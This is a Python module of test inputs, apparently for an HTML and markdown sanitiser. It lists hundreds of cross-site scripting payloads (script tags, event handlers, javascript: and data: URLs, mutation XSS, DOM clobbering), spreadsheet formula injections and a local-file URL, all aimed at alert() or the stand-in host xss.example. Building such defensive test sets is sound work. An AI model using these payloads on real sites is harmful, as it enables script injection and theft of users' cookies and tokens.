r"""Texts that try to run a script or to load something in the page that shows them.

The techniques are those of the OWASP "XSS Filter Evasion Cheat Sheet", of the tests of ammonia and nh3 (the sanitiser),
and of published mutation XSS: markup that is harmless until it is parsed a second time. Whatever runs calls `alert`;
whatever is loaded comes from xss.example; ids and names begin with "xss" unless they are those of our own code.
"""

from collections.abc import Iterable, Iterator

CODE = "alert(1)"
DECIMAL = "".join(f"&#{ord(character):07}" for character in f"javascript:{CODE}")
HEX = "".join(f"&#x{ord(character):X}" for character in f"javascript:{CODE}")
BASE64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

# Today's browsers do something with each: it runs, loads, or becomes an element that does so when it is touched.
LIVE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/x.js></SCRIPT>",
    "<SCRIPT SRC=//xss.example/.j>",
    "<SCRIPT SRC=https://xss.example/x.js?< B >",
    '<SCRIPT/XSS SRC="https://xss.example/x.js"></SCRIPT>',
    '<SCRIPT/SRC="https://xss.example/x.js"></SCRIPT>',
    '<SCRIPT a=">" SRC="https://xss.example/x.js"></SCRIPT>',
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT >",
    "<script\x0c>alert(1)</script\x0c>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    "<IMG SRC=/xss onerror=\"alert(1)\"></img>",
    f'<img src=xss onerror="{DECIMAL.replace("&#0000106", "&#106")}">',
    "<IMG SRC=# onmouseover=\"alert(1)\">",
    "<IMG onmouseover=\"alert(1)\">",
    "<img/src=xss/onerror=alert(1)>",
    "<img src=xss\nonerror\n=\nalert(1)>",
    "<img src onerror=alert`1`>",
    "<img srcset='xss 1x' onerror=alert(1)>",
    "<image src=xss onerror=alert(1)>",
    "<img src=https://xss.example/pixel.gif referrerpolicy=unsafe-url>",
    "<a onmouseover=\"alert(document.cookie)\">xss</a>",
    "<a onmouseover=alert(1)>xss</a>",
    '<a href="javascript:alert(1)">xss</a>',
    f'<a href="{DECIMAL}">xss</a>',
    f'<a href="{HEX}">xss</a>',
    '<a href="jav\tascript:alert(1)">xss</a>',
    '<a href="jav&#x09;ascript:alert(1)">xss</a>',
    '<a href="jav&#x0A;ascript:alert(1)">xss</a>',
    '<a href="jav&#x0D;ascript:alert(1)">xss</a>',
    '<a href=" &#14;  javascript:alert(1)">xss</a>',
    '<a href="javascript&colon;alert(1)">xss</a>',
    '<a href="\x01javascript:alert(1)">xss</a>',
    '<a href="javascript://%0aalert(1)">xss</a>',
    f'<a href="data:text/html;base64,{BASE64}">xss</a>',
    '<a href="vbscript:msgbox(1)">xss</a>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>xss</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>xss</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg />#x'></use></svg>",
    "<svg><image href=https://xss.example/x.png></image></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><a xlink:href='javascript:alert(1)'>xss</a></math>",
    "<math href='javascript:alert(1)'>xss</math>",
    "<BODY ONLOAD=alert(1)>",
    "<body onpageshow=alert(1)>",
    '<INPUT TYPE="IMAGE" SRC="https://xss.example/x.png">',
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<div contenteditable onbeforeinput=alert(1)>xss</div>",
    "<marquee onstart=alert(1)>xss</marquee>",
    "<video><source onerror=alert(1)>",
    "<video src=https://xss.example/x.mp4 poster=https://xss.example/x.png></video>",
    "<audio src=xss onerror=alert(1)></audio>",
    "<style>@keyframes xss{}</style><b style='animation-name:xss' onanimationstart=alert(1)>xss</b>",
    "<xss id=xss tabindex=1 onfocus=alert(1)>xss</xss>",
    "<button popovertarget=xss-pop>xss</button><xss popover id=xss-pop onbeforetoggle=alert(1)>xss</xss>",
    "<form action=javascript:alert(1)><button>xss</button></form>",
    "<form id=xss-form></form><button form=xss-form formaction=javascript:alert(1)>xss</button>",
    "<form action=https://xss.example/><input name=csrfmiddlewaretoken><button>xss</button></form>",
    '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
    "<IFRAME SRC=# onmouseover=\"alert(1)\"></IFRAME>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://xss.example/></iframe>",
    f'<object data="data:text/html;base64,{BASE64}"></object>',
    f'<embed src="data:text/html;base64,{BASE64}">',
    "<object data=https://xss.example/x.swf></object>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=https://xss.example/">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{BASE64}">',
    '<LINK REL="stylesheet" HREF="https://xss.example/x.css">',
    "<link rel=prefetch href=https://xss.example/>",
    "<STYLE>@import'https://xss.example/x.css';</STYLE>",
    "<DIV STYLE=\"background-image: url(https://xss.example/x.png)\">xss</DIV>",
    "<p style='position:fixed;inset:0;z-index:9999'>xss</p>",
    '<BASE HREF="javascript:alert(1);//">',
    "<base href=https://xss.example/>",
    "<TABLE BACKGROUND=\"https://xss.example/x.png\"><TD BACKGROUND=\"https://xss.example/x.png\">",
    # Out of what stands around it
    '"><img src=xss onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    "</textarea><script>alert(1)</script>",
    "</template><img src=xss onerror=alert(1)>",
    "</style><img src=xss onerror=alert(1)>",
    "--><img src=xss onerror=alert(1)>",
    "--!><img src=xss onerror=alert(1)>",
    "]]><img src=xss onerror=alert(1)>",
    "<!--><img src=xss onerror=alert(1)>",
    "</bdi></a></li></ul></section><img src=xss onerror=alert(1)>",
    # Mutation: harmless when parsed once, or in another context
    "<noscript><p title=\"</noscript><img src=xss onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=xss onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=xss onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><xmp><!--</xmp><img title='--&gt;&lt;img src=xss onerror=alert(1)&gt;'>",
    "<svg><foreignObject><table><path><xmp><!--</xmp><img title'--&gt;&lt;img src=xss onerror=alert(1)&gt;'>",
    "<svg><iframe><a title=\"</iframe><img src=xss onerror=alert(1)>\">xss",
    "<svg><?xml-stylesheet ><img src=xss onerror=alert(1)> ?></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=xss onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img title=\"</style><img src=xss onerror=alert(1)>\">",
    "<select><style></select><img src=xss onerror=alert(1)></style>",
    "<option><style></option></select><b><img src=xss onerror=alert(1)></b></style>",
    "<p id=\"</p><img src=xss onerror=alert(1)>\"><svg><p title='&lt;/svg&gt;'><img src=xss onerror=alert(1)>",
    "<template><p id=xss></template><template shadowrootmode=open><img src=xss onerror=alert(1)></template>",
    "<x/><title>&lt;/title&gt;&lt;img src=xss onerror=alert(1)&gt;</title><img src=xss onerror=alert(1)>",
)  # fmt: skip

# Names that hide properties of `document` and `window` from scripts. Nothing runs: they must not become elements.
CLOBBERING = tuple(
    f"<{tag} id={name} name={name}>xss</{tag}>"
    for tag, name in (
        *(("a", name) for name in ("trustedTypes", "reddotDefaultPolicy", "gettext", "reddot", "xss")),
        *(("form", name) for name in ("body", "cookie", "customElements", "csrfmiddlewaretoken")),
        *(("object", name) for name in ("getElementById", "currentScript", "location")),
    )
)

# For parsers of the past, or parts of scripts; and what swallows all that follows.
QUIET = (
    "<IMG SRC= onmouseover=\"alert(1)\">",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT a=`>` SRC=\"https://xss.example/x.js\"></SCRIPT>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC='vbscript:msgbox(1)'>",
    '<IMG DYNSRC="javascript:alert(1)">',
    '<IMG LOWSRC="javascript:alert(1)">',
    '<IMG SRC="`<javascript:alert>`(1)"',
    '<BGSOUND SRC="javascript:alert(1);">',
    "<BR SIZE=\"&{alert(1)}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><UL><LI>xss</br>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert(1))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "exp/*<A STYLE='no\\xss:noxss(\"*//*\");'>",
    "+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-",
    "\\\";alert(1);//",
    "';alert(1)//\\';alert(1)//\";alert(1)//\\\";alert(1)//",
    "Set.constructor`alert\\x28document.domain\\x29```",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "\u2028alert(1)\u2029alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=xss onerror=alert(1)&amp;gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\\u003cimg src=xss onerror=alert(1)\\u003e",
    '=HYPERLINK("https://xss.example/","x")',
    "=cmd|' /C calc'!A0",
    "\u202e<img src=xss onerror=alert(1)>\u2066",
    "\u202exss/elpmaxe.ssx//:sptth",
    "<\u200bscript>alert(1)</\u200bscript>",
    "<scr\u00adipt>alert(1)</scr\u00adipt>",
    "<script\ufeff>alert(1)</script\ufeff>",
    "<xmp><script>alert(1)</script>",
    "<textarea><script>alert(1)</script>",
    "<plaintext>",
    "<!--",
)  # fmt: skip

# Addresses that no page may follow or load.
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#1;javascript:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    f"data:text/html;base64,{BASE64}",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "blob:https://xss.example/1",
    "filesystem:https://xss.example/1",
    "file:///etc/passwd",
    "//xss.example/",
    "/\\xss.example/",
    "\\\\xss.example/",
    "///xss.example/",
    "https:xss.example/",
    "https://good.example@xss.example/",
    "https://xss.example\u3002good.example/\u202e",
    "https://xss.example/\"onmouseover=alert(1)//",
    "https://xss.example/'><img src=xss onerror=alert(1)>",
)  # fmt: skip

# Markdown around an address
LINKS = ("[xss]({})", "[xss](<{}>)", "[xss]({} 'xss')", "<{}>", "![xss]({})", "[xss][1]\n\n[1]: {}", "{}")
MARKDOWN = (
    "[x](https://good.example/ \"' onmouseover=alert(1) x='\")",
    "![x\" onerror=\"alert(1)](/media/xss.png)",
    "![x](/media/xss.png \"' onerror=alert(1) x='\")",
    "![![x](javascript:alert(1))](javascript:alert(1))",
    "[![x](/media/xss.png 'a>b')](javascript:alert(1))",
    "[a](<javascript:alert(1)>\"x\")<img src=xss onerror=alert(1)>",
    "[<img src=xss onerror=alert(1)>](https://good.example/)",
    "`<img src=xss onerror=alert(1)>`",
    "    <img src=xss onerror=alert(1)>",
    "```\"><img src=xss onerror=alert(1)>\nxss\n```",
    "# <img src=xss onerror=alert(1)>",
    "> <script>\n> alert(1)\n> </script>",
    "| <img src=xss> | b |\n|:-:|---|\n| <svg/onload=alert(1)> | `<b>` |",
    "| a |\n|---|\n| 1 | <img src=xss onerror=alert(1)> |",
    "{{time 2026-12-01T02:00 Europe/Berlin\"><img/src=xss/onerror=alert(1)>}}",
    "{{time 2026-12-01T02:00\"onclick=alert(1) Europe/Berlin}}",
    "{{time <script>alert(1)</script> <script>alert(1)</script>}}",
    "{{time 2026-12-01T02:00 Europe/Berlin}}<img src=xss onerror=alert(1)>",
    "[xss unused]: javascript:alert(1)",
    "[xss note]: tomorrow",
    "![see [the plan](https://good.example/plan)](/media/xss.png)",
    "![see ![the plan](https://xss.example/plan)](/media/xss.png)",
    "[xss twice]: https://good.example/\n[xss twice]: javascript:alert(1)\n\n[xss twice]",
    "<https://good.example/\"onmouseover=\"alert(1)>",
    "https://good.example/\u202e<script>alert(1)</script>",
)  # fmt: skip

TEXTS = (*LIVE, *CLOBBERING, *QUIET)
BODIES = (*TEXTS, *MARKDOWN, *(link.format(address) for link in LINKS for address in ADDRESSES))


def packed(texts: Iterable[str], most: int, between: str = " ") -> Iterator[str]:
    """The texts together, as many as `most` characters hold; without those that are longer or only blanks."""
    found = ""
    for text in texts:
        joined = f"{found}{between}{text}" if found else text
        if len(joined) > most:
            yield from filter(None, [found])
            joined = text
        found = joined if len(joined) <= most else ""
    if found:
        yield found
